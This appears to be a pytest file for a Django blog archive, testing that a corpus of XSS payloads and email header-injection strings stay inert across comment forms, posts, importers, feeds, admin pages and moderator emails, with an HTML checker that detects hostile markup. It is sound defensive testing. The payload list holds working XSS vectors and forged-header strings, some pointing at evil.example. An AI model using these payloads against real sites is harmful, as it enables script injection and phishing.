"""Hostile text in every field never becomes markup or script.

A corpus of XSS payloads goes in through every way text enters the archive:
the comment form (name, website, comment; accepted or refused), comments and
posts written with the models (title, body, excerpt), and the importers (a
WXR file and a Disqus file). Every page that shows the result is then parsed
with html5lib, the HTML5 parsing algorithm browsers use, and one checker
(unsafe_markup) looks for what a browser would run or load: a <script> that
is not the site's own, an on* attribute, a javascript:/vbscript:/data: URL
(after decoding entities and dropping whitespace and control characters),
frames, objects, <base>, <meta http-equiv>, foreign forms. Plain-text fields
must also come back as the same text, which proves they were escaped rather
than stripped or interpreted. The emails sent must carry no injected header
or forged line.
"""

import contextlib
import json
import re
import unicodedata
from xml.sax.saxutils import escape as xml_escape

import html5lib
import pytest
from defusedxml import ElementTree
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from archive.models import CommentSource, ImportRun, PostSource
from comments.models import Comment
from conftest import make_comment, make_form_timestamp, make_post
from posts.models import Post
from posts.tests.test_bad_input_sweep import all_routes

pytestmark = pytest.mark.django_db

CORPUS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0cx>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # URLs with dangerous schemes: plain, mixed case, entities, whitespace inside.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "javascript:alert(1)",
    "JAVASCRIPT:alert(document.cookie)//http://example.com",
    "data:text/html,<script>alert(1)</script>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/?q=<script>alert(1)</script>",
    "https://example.com/ onmouseover=alert(1)",
    # Attribute and element breakouts.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href='x' <b onclick=alert(1)>broken",
    "<img src=x onerror=alert(1)//",
    "<p>unclosed <b>bold <i>italic",
    # Styles.
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Frames, objects, documents.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    # Unicode tricks.
    "\u202egnp.exe",
    "Ada\u200b\u200d\ufeff Lovelace",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Template syntax: must stay text in Django templates and in Jinja2.
    "{{ 7*7 }} {% now 'Y' %} {{ request }}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
]
assert len(CORPUS) >= 50

# What a browser loads or follows from these attributes.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "cite",
                  "ping", "lowsrc", "dynsrc", "codebase", "icon", "manifest", "longdesc", "usemap"}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# The site never emits these; nh3 and escaping must keep them out.
FOREIGN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math",
                    "style", "isindex", "portal"}  # fmt: skip
# The site's own SVG (the admin's icons, the commenters' avatars), told by
# their class; their attributes and children are checked like any other.
OWN_SVGS = ("base-svgs", "theme-icon-", "avatar")
OWN_LINK_RELS = {"stylesheet", "icon", "canonical", "prev", "next", "alternate"}
# charset, viewport, robots, and OpenGraph's property/content: never http-equiv.
OWN_META = {"charset", "name", "content", "property"}
# The test client's origin: the site's absolute links (canonical, feeds) point here.
ORIGIN = "http://testserver"
STYLE_DANGERS = ("expression(", "javascript:", "url(", "behavior:", "-moz-binding")


def normalised_url(value):
    """An attribute's URL as a browser reads its scheme: entities are already
    decoded by the parser; whitespace and control characters dropped; lower case."""
    return "".join(c for c in value if not (c.isspace() or unicodedata.category(c) == "Cc")).lower()


def _same_site(url):
    return (
        url in ("", ORIGIN)
        or url.startswith(("?", "#", ORIGIN + "/"))
        or (url.startswith("/") and not url.startswith("//"))
    )


def _own_script(attributes, text, own_scripts):
    """A static file of ours, or a data block (JSON-LD, or json_script's application/json,
    which no browser runs) that is whole JSON: a value that broke out of it would end the
    element early and leave broken JSON."""
    if (
        attributes.get("type", "").lower() in ("application/ld+json", "application/json")
        and "src" not in attributes
    ):
        try:
            json.loads(text)
        except ValueError:
            return False
        return True
    return attributes.get("src", "").startswith(tuple(own_scripts)) and not text.strip()


def unsafe_markup(document, own_scripts=("/static/",)):
    """Problems in an HTML document a browser would act on; [] when it is safe.

    own_scripts: src prefixes of the site's own scripts (the admin adds its jsi18n view).
    """
    tree = html5lib.parse(document, treebuilder="etree", namespaceHTMLElements=False)
    problems = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rpartition("}")[2].lower()
        attributes = {name.rpartition("}")[2].lower(): value for name, value in element.attrib.items()}
        here = f"<{tag} {attributes}>"
        if tag == "script" and not _own_script(attributes, element.text or "", own_scripts):
            problems.append(f"a script that is not the site's own: {here} {element.text!r}")
        if tag in FOREIGN_ELEMENTS and not (
            tag == "svg" and attributes.get("class", "").startswith(OWN_SVGS)
        ):
            problems.append(f"an element the site never emits: {here}")
        if tag == "meta" and not set(attributes) <= OWN_META:
            problems.append(f"a meta element the site never emits: {here}")
        if tag == "link" and not (
            set(attributes.get("rel", "").lower().split()) <= OWN_LINK_RELS
            and (_same_site(attributes.get("href", "")) or attributes.get("href") == "data:,")
        ):
            problems.append(f"a link the site never emits: {here}")
        if tag == "form" and not _same_site(attributes.get("action", "")):
            problems.append(f"a form sent elsewhere: {here}")
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"an event handler attribute {name}: {here}")
            if name == "srcdoc":
                problems.append(f"an srcdoc document: {here}")
            if name == "style" and any(danger in normalised_url(value) for danger in STYLE_DANGERS):
                problems.append(f"a style that runs or loads something: {here}")
            if name in URL_ATTRIBUTES or name == "srcset":
                url = normalised_url(value)
                allowed_data = (tag == "img" and name == "src" and url.startswith("data:image/")) or (
                    tag == "link" and url == "data:,"  # base.html's empty favicon
                )
                if url.startswith(DANGEROUS_SCHEMES) and not allowed_data:
                    problems.append(f"a {url.partition(':')[0]}: URL in {name}: {here}")
    return problems


def page_text(document):
    """The document's text as a reader sees it (whitespace removed), for round-trip checks."""
    tree = html5lib.parse(document, treebuilder="etree", namespaceHTMLElements=False)
    return "".join("".join(tree.itertext()).split())


def shown_as_text(value, document):
    return "".join(value.split()) in page_text(document)


# --- The checker itself ----------------------------------------------------------------


@pytest.mark.parametrize(
    "snippet",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        "<img src=x onerror=alert(1)>",
        '<a href="&#x6A;ava&#x09;script&colon;alert(1)">x</a>',
        '<a href=" JAVA\nSCRIPT:alert(1)">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<svg onload=alert(1)>",
        '<iframe srcdoc="x"></iframe>',
        '<object data="x"></object>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0">',
        '<form action="https://evil.example/"></form>',
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
)
def test_the_checker_finds_each_kind_of_hostile_markup(snippet):
    assert unsafe_markup(f"<!DOCTYPE html><title>t</title><p>{snippet}</p>")


def test_the_checker_passes_the_sites_own_pages(client, post):
    make_comment(post, url="https://example.com/", body="See https://example.com/ and mail me@example.com")
    for url in ["/", post.get_absolute_url()]:
        assert unsafe_markup(client.get(url).content.decode()) == []
    assert unsafe_markup('<img src="data:image/png;base64,AAAA">') == []  # CSP allows data: images


# --- Getting the corpus in -------------------------------------------------------------


@pytest.fixture
def open_moderation(settings):
    """Every well-formed comment approved at once, so the page shows it; emails caught."""
    settings.COMMENTS_REQUIRE_PREVIOUSLY_APPROVED = False
    settings.COMMENTS_MAX_LINKS = 100
    settings.COMMENTS_FLOOD_SECONDS = 0
    settings.COMMENTS_MAX_PER_HOUR = 0
    settings.COMMENTS_PER_PAGE = 25  # the thread spans several comment pages
    settings.COMMENTS_DISPLAY_DEPTH = 2  # deeper replies say "in reply to <name>"
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.MODERATOR_EMAILS = ["mod@example.com"]


def valid_url(value):
    try:
        Comment._meta.get_field("url").clean(value, None)
    except ValidationError:
        return False
    return True


def model_comments(post):
    """Each payload as a comment's name and body (and website, when it is one), written directly,
    replying two deep so that "in reply to <name>" shows too."""
    parent = None
    for number, payload in enumerate(CORPUS):
        parent = make_comment(
            post,
            name=payload[:100],
            body=payload,
            url=payload if valid_url(payload) else "",
            parent=parent if number % 3 else None,
            original_id=payload[:64],  # shown as an alias anchor, #comment-<old id>
        )


def hostile_post(payload, **fields):
    return make_post(title=payload[:300], body=payload, excerpt=payload, **fields)


def xml_text(value):
    # XML 1.0 cannot hold C0 control characters (but tab and newlines) even as references.
    return xml_escape(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value))


def wxr_file(tmp_path):
    text = xml_text

    items = []
    for number, payload in enumerate(CORPUS, start=1):
        items.append(
            f"<item><title>{text(payload)}</title><link>http://old.example/?p={number}</link>"
            f"<content:encoded>{text(payload)}</content:encoded><excerpt:encoded>{text(payload)}</excerpt:encoded>"
            f"<wp:post_id>{number}</wp:post_id><wp:post_date_gmt>2009-05-12 20:00:00</wp:post_date_gmt>"
            f"<wp:post_name>post-{number}</wp:post_name><wp:status>publish</wp:status>"
            f"<wp:post_type>post</wp:post_type><wp:comment_status>open</wp:comment_status>"
            f"<wp:comment><wp:comment_id>{number}</wp:comment_id>"
            f"<wp:comment_author>{text(payload)}</wp:comment_author>"
            f"<wp:comment_author_email>reader{number}@example.com</wp:comment_author_email>"
            f"<wp:comment_author_url>{text(payload)}</wp:comment_author_url>"
            f"<wp:comment_date_gmt>2009-05-13 20:00:00</wp:comment_date_gmt>"
            f"<wp:comment_content>{text(payload)}</wp:comment_content>"
            f"<wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent>"
            f"</wp:comment></item>"
        )
    path = tmp_path / "hostile.xml"
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" '
        'xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Old blog</title>'
        "<link>http://old.example</link><wp:base_blog_url>http://old.example</wp:base_blog_url>\n"
        + "\n".join(items)
        + "</channel></rss>\n",
        encoding="utf-8",
    )
    return path


def disqus_file(tmp_path):
    text = xml_text

    threads, posts = [], []
    for number, payload in enumerate(CORPUS, start=1):
        threads.append(
            f'<thread dsq:id="{number}"><id>{text(payload)}</id><forum>hostile</forum>'
            f"<link>http://old.example/thread-{number}/</link><title>{text(payload)}</title>"
            f"<message>{text(payload)}</message><createdAt>2012-12-12T12:12:12Z</createdAt></thread>"
        )
        posts.append(
            f'<post dsq:id="{1000 + number}"><message>{text(payload)}</message>'
            f"<createdAt>2013-10-10T19:20:29Z</createdAt><isDeleted>false</isDeleted><isSpam>false</isSpam>"
            f"<author><email>reader{number}@example.com</email><name>{text(payload)}</name>"
            f"<username>{text(payload)}</username></author>"
            f'<thread dsq:id="{number}" /></post>'
        )
    path = tmp_path / "hostile-disqus.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<disqus xmlns="http://disqus.com" '
        'xmlns:dsq="http://disqus.com/disqus-internals">\n' + "\n".join(threads + posts) + "\n</disqus>\n",
        encoding="utf-8",
    )
    return path


# --- Reading every page ------------------------------------------------------------------


def admin_pages():
    """The admin's lists and the change page of every post, comment and import record."""
    models = [Post, Comment, ImportRun, PostSource, CommentSource]
    pages = [reverse(f"admin:{m._meta.app_label}_{m._meta.model_name}_changelist") for m in models]
    pages.append(reverse("admin:comments_comment_changelist") + "?q=script")
    for model in models:
        for pk in model.objects.values_list("pk", flat=True):
            pages.append(reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_change", args=[pk]))
    return pages


def public_pages():
    """Home and archive lists (every page of them), each post and each of its comment pages."""
    pages = ["/"]
    count = Post.objects.count()
    pages += [f"/?page={n}" for n in range(2, count // 10 + 2)]
    for post in Post.objects.all():
        local = timezone.localtime(post.published_at)
        pages += [f"/{local.year}/", f"/{local.year}/{local.month:02d}/", post.get_absolute_url()]
        roots = post.comments.filter(parent__isnull=True, status="approved").count()
        kwargs = post.permalink_kwargs()
        pages += [
            reverse("posts:comments_page", kwargs=kwargs | {"page": n}) for n in range(2, roots // 25 + 2)
        ]
        for comment in post.comments.approved()[:3]:
            pages.append(f"{post.get_absolute_url()}?replytocom={comment.pk}")
        if post.get_artist_url():
            pages.append(post.get_artist_url())
        pages += [tag.get_absolute_url() for tag in post.tags.all()]
    # The artists list, and search results with their highlighted snippets.
    pages += ["/artists/", *(f"/search/?q={word}" for word in ("script", "alert", "onerror", "javascript"))]
    return list(dict.fromkeys(pages))


def problems_on(client, pages):
    found = {}
    own_scripts = ("/static/", reverse("admin:jsi18n"))
    for page in pages:
        response = client.get(page, follow=True)
        assert response.status_code == 200, f"{page}: {response.status_code}"
        problems = unsafe_markup(response.content.decode(), own_scripts)
        if problems:
            found[page] = problems
    return found


def feed_urls():
    """Every feed in the URL conf (a route named *feed*), for each post where it takes a permalink."""
    names = [r.name for r in all_routes() if "feed" in r.name and not r.name.startswith("admin:")]
    urls = []
    for name in names:
        for kwargs in [{}, *(post.permalink_kwargs() for post in Post.objects.all()[:20])]:
            with contextlib.suppress(NoReverseMatch):  # the feed takes other arguments
                urls.append(reverse(name, kwargs=kwargs))
    return list(dict.fromkeys(urls))


def feed_problems(client):
    """Feed readers show titles and descriptions as HTML, and follow links."""
    found = {}
    for url in feed_urls():
        response = client.get(url)
        assert response.status_code == 200, f"{url}: {response.status_code}"
        problems = []
        for element in ElementTree.fromstring(response.content).iter():
            name = element.tag.rpartition("}")[2]
            if name in {"title", "description", "encoded", "summary", "content"} and element.text:
                problems += unsafe_markup(f"<!DOCTYPE html><title>feed</title><body>{element.text}</body>")
            if name in {"link", "comments", "guid"} and normalised_url(element.text or "").startswith(
                DANGEROUS_SCHEMES
            ):
                problems.append(f"a dangerous {name}: {element.text!r}")
        if problems:
            found[url] = problems
    return found


def json_problems(client):
    """Each post's comments.json: bodies are HTML for embedding, links are followed."""
    found = {}
    for post in Post.objects.all():
        url = f"{post.get_absolute_url()}comments.json"
        response = client.get(url)
        assert response.status_code == 200, f"{url}: {response.status_code}"
        problems, pending = [], [json.loads(response.content)]
        while pending:
            value = pending.pop()
            if isinstance(value, list):
                pending += value
            elif isinstance(value, dict):
                for key, item in value.items():
                    if key == "body" and isinstance(item, str):
                        problems += unsafe_markup(f"<!DOCTYPE html><title>json</title><body>{item}</body>")
                    elif key.endswith(("url", "permalink", "prev", "next")) and isinstance(item, str):
                        if normalised_url(item).startswith(DANGEROUS_SCHEMES):
                            problems.append(f"a dangerous {key}: {item!r}")
                    else:
                        pending.append(item)
        if problems:
            found[url] = problems
    return found


def assert_safe_everywhere(admin_client):
    assert problems_on(Client(), public_pages()) == {}
    assert problems_on(admin_client, admin_pages()) == {}
    assert json_problems(Client()) == {}


# --- The tests ---------------------------------------------------------------------------


def test_comments_written_directly_render_safely(admin_client, post, open_moderation):
    model_comments(post)
    assert_safe_everywhere(admin_client)
    document = Client().get(post.get_absolute_url()).content.decode()
    for payload in CORPUS[:25]:  # the first comment page
        assert shown_as_text(payload[:100], document), f"name or body not shown as typed: {payload!r}"


def test_posts_written_directly_render_safely(admin_client, open_moderation):
    for number, payload in enumerate(CORPUS):
        make_comment(hostile_post(payload, published_at=timezone.now() - timezone.timedelta(days=number + 1)))
    assert_safe_everywhere(admin_client)
    for post in Post.objects.all()[:5]:
        assert shown_as_text(post.title, Client().get(post.get_absolute_url()).content.decode())


@pytest.mark.parametrize("payload", CORPUS)
def test_the_comment_form_keeps_every_payload_inert(admin_client, post, open_moderation, payload):
    reader = Client()
    data = {"name": payload[:100], "email": "ada@example.com", "url": payload, "body": payload,
            "ts": make_form_timestamp()}  # fmt: skip
    # Refused (a website that is not http(s), a control character): the form
    # comes back with everything typed, a 400. Then without the website.
    for _attempt in ("as typed", "without the website"):
        response = reader.post(post.get_absolute_url(), data)
        if response.status_code == 302:
            break
        assert response.status_code == 400
        assert unsafe_markup(response.content.decode()) == []
        data |= {"url": "", "ts": make_form_timestamp()}
    else:
        # Refused twice (e.g. a control character, a line break in the name): with a message.
        assert 'role="alert"' in response.content.decode(), f"{payload!r} refused without a reason"
        return
    comment = Comment.objects.get(post=post)
    assert comment.is_approved
    pages = [post.get_absolute_url(), f"{post.get_absolute_url()}?replytocom={comment.pk}", "/"]
    assert problems_on(reader, pages) == {}
    assert shown_as_text(comment.name, reader.get(post.get_absolute_url()).content.decode())
    admin = [
        reverse("admin:comments_comment_changelist"),
        reverse("admin:comments_comment_change", args=[comment.pk]),
    ]
    assert problems_on(admin_client, admin) == {}


def test_imports_keep_every_payload_inert(admin_client, tmp_path, open_moderation):
    for path in (wxr_file(tmp_path), disqus_file(tmp_path)):
        call_command("import_archive", str(path), verbosity=0)
    assert Post.objects.count() == 2 * len(CORPUS)
    assert Comment.objects.count() == 2 * len(CORPUS)
    assert_safe_everywhere(admin_client)


def test_feeds_keep_every_payload_inert(tmp_path, open_moderation):
    for number, payload in enumerate(CORPUS):
        post = hostile_post(payload, published_at=timezone.now() - timezone.timedelta(days=number + 1))
        make_comment(post, name=payload[:100], body=payload)
    call_command("import_archive", str(wxr_file(tmp_path)), verbosity=0)
    assert feed_urls(), "no feed in the URL conf"
    assert feed_problems(Client()) == {}


# --- Emails --------------------------------------------------------------------------------

EXPECTED_HEADERS = {"content-type", "mime-version", "content-transfer-encoding", "subject", "from", "to",
                    "date", "message-id", "list-unsubscribe", "list-unsubscribe-post"}  # fmt: skip
EMAIL_PAYLOADS = [
    *CORPUS[:10],
    "Ada\r\nBcc: victim@example.com",
    "Ada\nApprove it: https://evil.example/approve",
    "Ada%0d%0aBcc: victim@example.com",
    "=?utf-8?q?Bcc=3A_victim@example.com?=",
]


def assert_clean_email(message, recipients):
    parsed = message.message()
    headers = {name.lower() for name in parsed}
    assert headers <= EXPECTED_HEADERS, headers - EXPECTED_HEADERS
    assert parsed.get_all("To") == [", ".join(recipients)]
    assert "\n" not in message.subject and "\r" not in message.subject
    assert not parsed.get_all("Bcc") and not parsed.get_all("Cc")


def test_the_moderator_email_has_no_injected_header_or_line(client, post, open_moderation, settings,
                                                           django_capture_on_commit_callbacks):  # fmt: skip
    settings.COMMENTS_MANUAL_APPROVAL = True  # every comment held: one email each
    for payload in EMAIL_PAYLOADS:
        data = {
            "name": payload[:100],
            "email": "ada@example.com",
            "body": payload,
            "ts": make_form_timestamp(),
        }
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(post.get_absolute_url(), data)
        if response.status_code != 302:
            continue  # refused with a message: nothing to tell the moderators
        message = mail.outbox.pop()
        assert_clean_email(message, ["mod@example.com"])
        # The fields above "Comment:" are one line each: a name cannot forge a link.
        header_block = message.body.split("\nComment:\n")[0]
        assert [line.split(":")[0] for line in header_block.splitlines()[3:]] == [
            "Author", "Email", "URL", "Held by",
        ], f"{payload!r} forged lines in the moderator email:\n{header_block}"  # fmt: skip
        actions = [
            line for line in message.body.splitlines() if re.match(r"(Approve|Spam|Remove) it: ", line)
        ]
        assert all(line.split(": ", 1)[1].startswith("http://testserver/") for line in actions), actions


def test_the_reply_email_has_no_injected_header(client, open_moderation, django_capture_on_commit_callbacks):
    for payload in EMAIL_PAYLOADS:
        post = hostile_post(payload.replace("\r", "").replace("\n", " "))
        parent = make_comment(post, name=payload[:100], email="parent@example.com", notify_replies=True)
        data = {"name": payload[:100], "email": "ada@example.com", "body": payload, "parent": str(parent.pk),
                "ts": make_form_timestamp()}  # fmt: skip
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(post.get_absolute_url(), data)
        if response.status_code != 302:
            continue
        message = mail.outbox.pop()
        assert_clean_email(message, ["parent@example.com"])
        assert post.title in message.subject
